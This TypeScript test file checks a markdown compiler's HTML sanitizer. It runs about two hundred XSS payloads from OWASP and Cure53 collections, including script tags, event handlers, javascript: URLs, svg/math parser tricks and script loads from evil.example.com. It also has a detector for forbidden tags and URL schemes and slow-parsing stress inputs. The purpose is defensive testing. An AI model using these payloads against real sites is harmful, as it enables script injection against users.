import { type DefaultTreeAdapterTypes, parse, parseFragment, serialize } from 'parse5'
import { describe, expect, test } from 'vitest'
import { validateConfig } from '../../../src/config/validate.ts'
import { compile } from '../../../src/markdown/compile.ts'
import { english } from '../../../src/messages/messages.ts'
import type { CompiledDoc } from '../../../src/model/types.ts'

type Node = DefaultTreeAdapterTypes.Node
type Element = DefaultTreeAdapterTypes.Element

// Each must become harmless; based on the collections of OWASP and Cure53.
const vectors = `
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example.com/x.js></SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script/xss src="https://evil.example.com/x.js"></script>
<<SCRIPT>alert("x");//\\<</SCRIPT>
<SCRIPT SRC=//evil.example.com/x.js?< B >
<script>alert(1)
<scr<script>ipt>alert(1)</scr</script>ipt>
<scr<!-- -->ipt>alert(1)</scr<!-- -->ipt>
<script\\x20type="text/javascript">alert(1);</script>
<script >alert(1)</script >
<script>alert(1)</script foo="bar">
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"//
<img src="x" ONERROR = 'alert(1)'>
<img/src="x"/onerror=alert(1)>
<img src=x:x onerror\\n=\\nalert(1)>
<img """><script>alert("x")</script>"\\>
<img src=\`x\` onerror=\`alert(1)\`>
<img src="x\` \`<script>alert(1)</script>"\` \`>
<img src onerror /" '"= alt=alert(1)//">
<img =src=x onerror=alert(1)>
<img src='x'onerror='alert(1)'>
<img src="x"onerror="alert(1)">
<img src=javascript:alert(1)>
<img srcset="javascript:alert(1) 1x">
<img src=x srcdark="javascript:alert(1)">
<img alt="x" src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href=javascript:alert(1)>x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#14; javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&#x0A;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script&colon;alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="jav\\tascript:alert(1)">x</a>
<a href="jav\\nascript:alert(1)">x</a>
<a href="\\u0001javascript:alert(1)">x</a>
<a href="java\\u0000script:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="blob:https://x/1">x</a>
<a class="dg-hash-link hash-link" href="javascript:alert(1)">x</a>
<a class="dg-hash-link hash-link" href="java&Tab;script&colon;alert(1)">x</a>
<a href="x" href="javascript:alert(1)">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href="x" ping="javascript:alert(1)" onmouseover=alert(1)>x</a>
<a href='javascript:alert("x")' target=_blank>x</a>
<area href="javascript:alert(1)" shape="default"><map name="m"><area href=javascript:alert(1)></map>
<q cite="javascript:alert(1)">x</q>
<video poster="javascript:alert(1)" src="javascript:alert(1)" onloadstart=alert(1)></video>
<video><source onerror="alert(1)" src="javascript:alert(1)"></video>
<audio src=x onerror=alert(1)></audio>
<track src="javascript:alert(1)">
<svg/onload=alert(1)>
<svg onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)" /></svg>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>
<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><a id="</title><img src=x onerror=alert(1)>"></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<math href="javascript:alert(1)">x</math>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><maction actiontype="statusline#https://x" xlink:href="javascript:alert(1)">x</maction></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<style><img title="</style><img src=x onerror=alert(1)>">
<style>@import 'javascript:alert(1)';</style>
<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>x</li></ul>
<title><a title="</title><img src=x onerror=alert(1)>"></title>
<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><a title="</xmp><img src=x onerror=alert(1)>"></xmp>
<noembed><a title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><a title="</noframes><img src=x onerror=alert(1)>"></noframes>
<iframe><a title="</iframe><img src=x onerror=alert(1)>"></iframe>
<iframe src="https://codepen.io/x"><a title="</iframe><img src=x onerror=alert(1)>"></iframe>
<template><script>alert(1)</script></template>
<template><a title="</template><img src=x onerror=alert(1)>"></template>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="https://www.youtube.com/embed/x" onload="alert(1)" srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>">
<iframe/src="https://evil.example.com/?youtube.com"></iframe>
<iframe src="https://youtube.com.evil.example.com/"></iframe>
<iframe src="https:youtube.com&sol;..&commat;evil.example.com"></iframe>
<iframe src="javascript://youtube.com/%0aalert(1)"></iframe>
<iframe src="\\\\\\\\evil.example.com/youtube.com"></iframe>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object type="text/x-scriptlet" data="https://evil.example.com/x.html"></object>
<object><param name="src" value="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<embed src="https://evil.example.com/x.swf" allowscriptaccess="always">
<applet code="x.class"></applet>
<base href="javascript:alert(1);//">
<link rel="stylesheet" href="javascript:alert(1);">
<link rel=import href="data:text/html,x">
<meta http-equiv="refresh" content="0;url=javascript:alert(1);">
<meta http-equiv="Set-Cookie" content="x">
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html onclick=alert(1)><head><script>alert(1)</script></head>
<form action="javascript:alert(1)"><input type=submit></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<input type="image" src="javascript:alert(1)" formaction=javascript:alert(1)>
<input onfocus=alert(1) autofocus>
<isindex action="javascript:alert(1)" type=submit>
<select autofocus onfocus=alert(1)><option>x</option></select>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<bgsound src="javascript:alert(1);">
<br size="&{alert('x')}">
<layer src="https://evil.example.com/x.html"></layer>
<div style="background-image: url(javascript:alert(1))">x</div>
<div style="width: expression(alert(1));">x</div>
<div style="-moz-binding:url(https://evil.example.com/x.xml#x)">x</div>
<xss style="behavior: url(xss.htc);">x</xss>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>
<div onclick=alert(1) OnMouseOver="alert(1)" on\\u0000click=1>x</div>
<div/onclick=alert(1)/x>x</div>
<div\\u000conclick=alert(1)>x</div>
<div\\u000bonclick=alert(1)>x</div>
<div a="b"onclick=alert(1)>x</div>
<div a='"' onclick='alert(1)' b='"'>x</div>
<div title="'><script>alert(1)</script>">x</div>
<div title='"><script>alert(1)</script>'>x</div>
<div title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</div>
<div title=x"onmouseover="alert(1)>x</div>
<div title=\`><img src=x onerror=alert(1)>\`>x</div>
<div title="<!--" class="--><script>alert(1)</script>">x</div>
<div class="x\\" onclick=alert(1)//">x</div>
<div data-island="x" data-props="{}" is="x-y" slot="x" contenteditable accesskey=x>x</div>
<x-foo onclick=alert(1)>x</x-foo>
<x onclick=alert(1) src=a>x
<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1);">]]></c></x></xml>
<![CDATA[<script>alert(1)</script>]]>
<![CDATA[x]]><script>alert(1)</script>
<![cdata[<img src=x onerror=alert(1)>
<?xml version="1.0"?><script>alert(1)</script>
<?php echo '<img src=x onerror=alert(1)>' ?>
<? foo="><script>alert(1)</script>">
<! foo="><script>alert(1)</script>">
</ foo="><script>alert(1)</script>">
<% foo><x foo="%><script>alert(1)</script>">
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>
<!--><script>alert(1)</script>
<!---><script>alert(1)</script>
<!--x--!><script>alert(1)</script>
<!-- -- ><img src=x onerror=alert(1)> -->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--<img src="--><img src=x onerror=alert(1)//">
<comment><img src="</comment><img src=x onerror=alert(1)>">
<!-- #id --><script>alert(1)</script>
# Title <!-- #x"onclick="alert(1) -->
# Title <!-- #<script>alert(1)</script> -->
<p><b><table><script>alert(1)</script><tr><td><img src=x onerror=alert(1)></table>
<b <script>alert(1)</script>0
<div<script>alert(1)</script>
<img <script>alert(1)</script> src=x onerror=alert(1)>
<a href="x
<img src="x" onerror="alert(1)
<image src=x onerror=alert(1)>
<dialog open onclose=alert(1)>x</dialog>
<portal src=javascript:alert(1)></portal>
<Foo onclick="alert(1)"><script>alert(1)</script></Foo>
<Script>alert(1)</Script>
<div id=cookie></div><img name=getElementById src=x><a id="documentElement"></a><a name=body></a>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&<!-- -->lt;script&<!-- -->gt;
<i>&#xfdd<!-- -->00</i>&#xfdd0 &#64976 &#64<!-- -->976;
<i title="&#xfdd0 &#64976x &#xFDD1">x</i>
[x](javascript:alert(1))
[x](JaVaScRiPt&colon;alert(1))
[x](<java script:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:x "title")
![x](javascript:alert(1))
![x"onerror="alert(1)](x "y"onload="alert(1)")
[x]: javascript:alert(1)\\n\\n[x]
<javascript:alert(1)>
<a title="*">*<script>alert(1)</script>*</a>
**<script>**alert(1)**</script>**
- <script>\\n- alert(1)\\n- </script><img src=x onerror=alert(1)>
> <img src=x\\n> onerror=alert(1)>
| <script> | alert(1) |\\n| --- | --- |\\n| </script> | <img src=x onerror=alert(1)> |
<div>\\n\\n\\x60\\x60\\x60html\\n<script>alert(1)</script>\\n\\x60\\x60\\x60\\n\\n</div>
<table><tr><td>\\n\\n<script>alert(1)</script>\\n\\n</td></tr></table>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">
<b id="</style><img src=1 onerror=alert(1)>"><style></b>
<a name="</title><svg onload=alert(1)>"><title></a>
`
  .trim()
  .split('\n')
  .map((line) => line.replace(/\\(u[\da-f]{4}|x[\da-f]{2}|[nt\\])/g, (_, code: string) => unescaped(code)))

function unescaped(code: string): string {
  if (code.length > 1) return String.fromCharCode(Number.parseInt(code.slice(1), 16))
  return { n: '\n', t: '\t' }[code] ?? code
}

describe.each(['satteri', 'remark'] as const)('hostile HTML read by %s', (parser) => {
  test.each(vectors)('becomes harmless: %s', async (text) => {
    for (const shape of [text, `Words ${text} words`, `> - ${text}`, `<div>\n${text}\n</div>\n\nAfter`])
      expect(await harmsOf(shape, parser)).toEqual([])
  })
})

test('the probe detects attacks in unsanitized HTML', async () => {
  const found = await Promise.all(vectors.slice(0, 150).map((text) => harmsOf(text, 'satteri', 'trusted')))
  expect(found.filter((harms) => harms.length > 0).length).toBeGreaterThan(110)
})

test('random sequences of tags become harmless', async () => {
  const pieces = vectors.flatMap((vector) => vector.split(/(?=[<>"'=&\s])/))
  const random = generator(7)
  for (let i = 0; i < 600; i++) {
    const text = Array.from({ length: 14 }, () => pieces[random(pieces.length)]).join('')
    expect(await harmsOf(text, 'satteri'), text).toEqual([])
  }
})

const long = 150_000
const slow: Record<string, string> = {
  'open comments': '<!-- '.repeat(long),
  'open CDATA': `<div>${'<![CDATA[ '.repeat(long)}`,
  'open instructions': `<div>${'<?'.repeat(long)}`,
  'unfinished tags': '<a '.repeat(long),
  'unfinished values': '<a b="'.repeat(long),
  'elements that never end': `<div>${'<script>'.repeat(long)}`,
  'inline elements that never end': `x ${'<script>'.repeat(1500)}`,
  attributes: `<a ${'aria-x=1 '.repeat(long)}>`,
  spaces: `<div${' '.repeat(long)}a${' '.repeat(long)}=${' '.repeat(long)}`,
  'open elements': `<div>${'<b id=x>'.repeat(long)}`,
  'open formatting in paragraphs': `<p>${Array.from({ length: 1500 }, (_, i) => `<b id=b${i}>`).join('')}${'<p>x'.repeat(3000)}`,
  'open tables': '<table><tr><td>'.repeat(3000),
  'open lists': `<div>${'<ul><li>'.repeat(4500)}`,
  references: `<div>${'&#'.repeat(long)}`,
  'end tags': `<div>${'</b>'.repeat(long)}`,
  'findings on one line': `<div>${'<font>'.repeat(5000)}`,
  'findings on many lines': `<div>${'<font>\n'.repeat(5000)}`,
}

// In quadratic time, most of them would take minutes.
test.each(Object.entries(slow))('hostile HTML is sanitized in linear time: %s', async (_, text) => {
  const { html } = await htmlOf(text, 'satteri', 'sanitize')
  expect(harmsIn(parseFragment(html))).toEqual([])
})

type Parser = 'satteri' | 'remark'
type Mode = 'sanitize' | 'trusted'

const harmsOfHtml = new Map<string, string[]>()

async function harmsOf(text: string, parser: Parser, mode: Mode = 'sanitize'): Promise<string[]> {
  const { html, doc } = await htmlOf(text, parser, mode)
  // Both parsers have the same output for most texts.
  const known = harmsOfHtml.get(html) ?? [
    ...harmsIn(parse(`<main>${html}</main>`)),
    ...harmsIn(parseFragment(html, { scriptingEnabled: false })),
    // HTML that a script assigns to innerHTML is parsed a second time.
    ...harmsIn(parseFragment(serialize(parseFragment(html)))),
  ]
  harmsOfHtml.set(html, known)
  const harms = [...known]
  for (const problem of doc.problems) if (!problem.line || !problem.column) harms.push(`no place: ${problem.message}`)
  return [...new Set(harms)]
}

async function htmlOf(
  text: string,
  parser: Parser,
  mode: Mode,
): Promise<{ html: string; doc: Omit<CompiledDoc, 'body'> }> {
  const source = {
    path: 'a.md',
    name: 'a.md',
    id: 'a',
    kind: 'doc',
    collection: 'default',
    version: 'current',
    locale: 'en',
  } as const
  const { doc, chunks } = await compile(
    { source, text, hash: '', files: {} },
    { markdown: configOf(parser, mode), words: english },
  )
  const html = chunks.map((chunk) => (typeof chunk === 'string' ? chunk : targetOf(doc, chunk))).join('')
  return { html: [html, ...doc.headings.map((heading) => heading.html)].join('\n'), doc }
}

function targetOf(doc: Omit<CompiledDoc, 'body'>, chunk: object): string {
  if (!('link' in chunk)) return ''
  const link = doc.links[chunk.link as number]
  if (!link) throw new Error('A hole that no link made.')
  return link.target.replace(/"/g, '&quot;')
}

const configs = new Map<string, NonNullable<ReturnType<typeof validateConfig>['config']>['markdown']>()

function configOf(parser: Parser, html: Mode) {
  const known = configs.get(parser + html)
  if (known) return known
  const site = { title: 'Site', url: 'https://site.example.com', markdown: { parser, html, format: 'md' } }
  const { markdown } = validateConfig(site, 'site.config.ts').config!
  configs.set(parser + html, markdown)
  return markdown
}

const forbidden =
  /^(?:script|style|svg|math|object|embed|applet|form|input|button|select|textarea|template|noscript|base|link|meta|frame|frameset|title|xmp|noembed|noframes|plaintext|dialog|portal|marquee|x-foo)$/

function harmsIn(root: Node): string[] {
  const harms: string[] = []
  const visit = (node: Node) => {
    if ('tagName' in node) harms.push(...harmsOfElement(node))
    if ('childNodes' in node) node.childNodes.forEach(visit)
  }
  visit(root)
  return harms
}

function harmsOfElement({ tagName, attrs }: Element): string[] {
  const harms = forbidden.test(tagName) ? [`<${tagName}>`] : []
  for (const { name, value } of attrs) {
    if (/^on/i.test(name) || /^(?:style|srcdoc|formaction|action|data|is|slot|ping)$/.test(name))
      harms.push(`${tagName} ${name}`)
    if (/^data-(?:island|props)/.test(name)) harms.push(`${tagName} ${name}`)
    if (/^(?:id|name)$/.test(name) && value in { cookie: 1, getElementById: 1, documentElement: 1, body: 1 })
      harms.push(`${name} ${value}`)
    if (/^(?:href|src|srcset|srcdark|poster|cite|xlink:href|background)$/.test(name) && isHarmful(value))
      harms.push(`${name} ${value}`)
    if (tagName === 'iframe' && name === 'src' && !/^https:\/\/(?:www\.youtube\.com|codepen\.io)\//.test(value))
      harms.push(value)
  }
  return harms
}

function isHarmful(url: string): boolean {
  return (
    /(?:^|[\s,])(?:javascript|vbscript|data|feed|view-source|blob):/i.test(url.replace(/[\u0000-\u0020]/g, '')) ||
    /^[\u0000-\u0020]*(?:javascript|vbscript|data):/i.test(url.replace(/[\t\n\r]/g, ''))
  )
}

/** Reproducible pseudo-random numbers. */
function generator(seed: number): (below: number) => number {
  let state = seed
  return (below) => {
    state = (state * 1664525 + 1013904223) % 2 ** 32
    return Math.floor((state / 2 ** 32) * below)
  }
}
